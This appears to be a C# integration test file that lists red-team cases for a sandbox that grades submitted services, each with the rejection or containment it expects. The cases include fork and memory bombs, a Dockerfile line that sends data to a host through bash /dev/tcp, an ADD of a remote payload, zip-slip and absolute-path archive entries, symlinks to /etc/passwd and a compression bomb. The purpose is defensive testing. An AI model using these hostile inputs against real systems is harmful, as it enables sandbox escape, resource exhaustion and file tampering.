using System.Formats.Tar;
using System.IO.Compression;
using Assessments.Domain.Challenges;
using Assessments.Domain.Reports;
using Assessments.Domain.Scenarios;
using Assessments.Submissions.Sandbox;

namespace Assessments.IntegrationTests.RedTeam;

/// <summary>The red-team cases of SANDBOX.md and their expected outcomes.</summary>
internal static class RedTeamCases
{
    private static readonly TimeSpan ShortReadiness = TimeSpan.FromSeconds(10);

    public static IEnumerable<RedTeamCase> All(int listenerPort, string gateway) =>
        Runtime(listenerPort).Concat(BuildTime(listenerPort, gateway)).Concat(Archives());

    private static IEnumerable<RedTeamCase> Runtime(int listenerPort)
    {
        // The longest case (every check waits out its response timeout, some 50 s) first: twelfth in
        // the list, it started when most others had ended and ran on alone for half a minute.
        yield return Behaviour("endless-response", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.Contains(r.Contract.Checks, c => !c.Passed && c.Summary.Contains("no complete response within", StringComparison.Ordinal));
        });
        yield return Behaviour("fork-bomb", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.Contains(r.SandboxEvents, e => e.Summary.Contains("process limit was reached", StringComparison.Ordinal));
        });
        yield return Behaviour("memory-bomb", r =>
        {
            AssertStartFailed(r, "oom_killed");
            Assert.Equal("268435456", r.Environment.Limits["run.memoryBytes"]);
        }) with { Overrides = new SandboxOverrides(RunMemoryMb: 256) };
        yield return Behaviour("disk-fill", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.Contains(r.ServiceLogTail, l => l.Contains("root file system refused the write", StringComparison.Ordinal));
            Assert.Contains(r.ServiceLogTail, l => l.Contains("/tmp full after", StringComparison.Ordinal));
        });
        yield return Behaviour("busy-loop", r => AssertStartFailed(r, "readiness_timeout"), ShortReadiness);
        yield return Behaviour("log-flood", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.InRange(r.ServiceLogTail.Count, 1, SandboxLimits.Default.LogTailLines);
        });
        yield return Behaviour("never-listens", r =>
        {
            AssertStartFailed(r, "readiness_timeout");
            Assert.Contains("listens on no TCP port", r.Failure!.Message, StringComparison.Ordinal);
        }, ShortReadiness);
        yield return Behaviour("loopback-only", r =>
        {
            AssertStartFailed(r, "readiness_timeout");
            Assert.Contains("port 8080 only on loopback (127.0.0.1:8080)", r.Failure!.Message, StringComparison.Ordinal);
        }, ShortReadiness);
        yield return Behaviour("wrong-port", r =>
        {
            AssertStartFailed(r, "readiness_timeout");
            Assert.Contains("port 5000, not 8080", r.Failure!.Message, StringComparison.Ordinal);
        }, ShortReadiness);
        yield return Behaviour("exits-at-once", r =>
        {
            AssertStartFailed(r, "exited");
            Assert.Equal(7, r.Failure!.ExitCode);
        });
        yield return Behaviour("crash-mid-checks", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            var survived = Assert.Single(r.Contract.Checks, c => c.Id == BuiltInChecks.ServiceSurvived);
            Assert.False(survived.Passed);
            Assert.Contains("stopped while it was graded (exit code 134)", survived.Summary, StringComparison.Ordinal);
        });
        yield return Behaviour("huge-response", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.Contains(r.Contract.Checks.SelectMany(c => c.Evidence), e => e.Exchange?.Response?.BodyTruncated == true);
        });
        yield return Behaviour($"reach-host {listenerPort}", r =>
        {
            Assert.Equal(ReportStatus.Graded, r.Status);
            Assert.Contains(r.ServiceLogTail, l => l.Contains("reach-host:", StringComparison.Ordinal) && l.Contains("failed", StringComparison.Ordinal));
            Assert.Contains(r.ServiceLogTail, l => l.Contains("docker socket absent", StringComparison.Ordinal));
        });
    }

    private static IEnumerable<RedTeamCase> BuildTime(int listenerPort, string gateway)
    {
        const string Sdk = "FROM mcr.microsoft.com/dotnet/sdk:10.0\n";
        yield return Dockerfile("build-hangs", Sdk + "RUN sleep 600\n", r =>
        {
            Assert.Equal(ReportStatus.BuildFailed, r.Status);
            Assert.Contains("did not finish within", r.Failure!.Message, StringComparison.Ordinal);
        }, SandboxLimits.Default with { BuildTimeout = TimeSpan.FromSeconds(15) });
        yield return Dockerfile("build-eats-memory", Sdk + "RUN dd if=/dev/zero of=/dev/null bs=3G count=1\n", r =>
            Assert.Equal(ReportStatus.BuildFailed, r.Status));
        yield return Dockerfile("build-tries-network", Sdk + $"RUN bash -c 'echo hello > /dev/tcp/{gateway}/{listenerPort}'\n", r =>
            Assert.Equal(ReportStatus.BuildFailed, r.Status));
        yield return Dockerfile("add-url", Sdk + $"ADD http://{gateway}:{listenerPort}/payload /payload\n", r =>
            AssertRejected(r, "ADD of a URL is not allowed"));
        yield return Dockerfile("from-not-allowed", "FROM alpine:3.20\nCMD [\"sh\"]\n", r =>
            AssertRejected(r, "FROM alpine:3.20 is not an allowed base image"));
    }

    private static IEnumerable<RedTeamCase> Archives()
    {
        yield return Archive("zip-slip", path => Zip(path, ("Dockerfile", 10), ("../../escape.txt", 10)), "'..'");
        yield return Archive("absolute-path", path => Zip(path, ("Dockerfile", 10), ("/etc/planted", 10)), "absolute paths are not allowed");
        yield return Archive("symlink", path => Tar(path, tar => tar.WriteEntry(new PaxTarEntry(TarEntryType.SymbolicLink, "link") { LinkName = "/etc/passwd" })), "links are not allowed");
        yield return Archive("hardlink", path => Tar(path, tar => tar.WriteEntry(new PaxTarEntry(TarEntryType.HardLink, "link") { LinkName = "/etc/passwd" })), "links are not allowed");
        yield return Archive("too-many-entries", path => Zip(path, Enumerable.Range(0, 2001).Select(i => ($"f{i}", 1)).ToArray()), "more than 2,000 entries");
        yield return Archive("compression-bomb", path => Zip(path, ("Dockerfile", 10), ("zeros.bin", 40 * 1024 * 1024)), "compression ratio");
    }

    private static RedTeamCase Behaviour(string behaviour, Action<Domain.Reports.GradingReport> expect, TimeSpan? readiness = null) =>
        new(behaviour.Split(' ')[0], root => HostileSubmission.WithBehaviour(root, behaviour), expect, ReadinessTimeout: readiness);

    private static RedTeamCase Dockerfile(string name, string dockerfile, Action<Domain.Reports.GradingReport> expect, SandboxLimits? limits = null) =>
        new(name, root => HostileSubmission.WithDockerfile(root, name, dockerfile), expect, limits);

    private static RedTeamCase Archive(string name, Action<string> write, string reason) =>
        new(name, root =>
        {
            var path = Path.Combine(root, name + (name is "symlink" or "hardlink" ? ".tar.gz" : ".zip"));
            write(path);
            return path;
        }, r => AssertRejected(r, reason));

    private static void AssertStartFailed(Domain.Reports.GradingReport r, string kind)
    {
        Assert.Equal(ReportStatus.StartFailed, r.Status);
        Assert.Equal(kind, r.Failure!.Kind);
    }

    private static void AssertRejected(Domain.Reports.GradingReport r, string reason)
    {
        Assert.Equal(ReportStatus.Rejected, r.Status);
        Assert.Contains(reason, r.Failure!.Message, StringComparison.Ordinal);
    }

    private static void Zip(string path, params (string Name, int Zeros)[] entries)
    {
        using var zip = ZipFile.Open(path, ZipArchiveMode.Create);
        foreach (var (name, zeros) in entries)
        {
            using var stream = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            stream.Write(new byte[zeros]);
        }
    }

    private static void Tar(string path, Action<TarWriter> write)
    {
        using var file = File.Create(path);
        using var gzip = new GZipStream(file, CompressionLevel.Fastest);
        using var tar = new TarWriter(gzip);
        write(tar);
    }
}
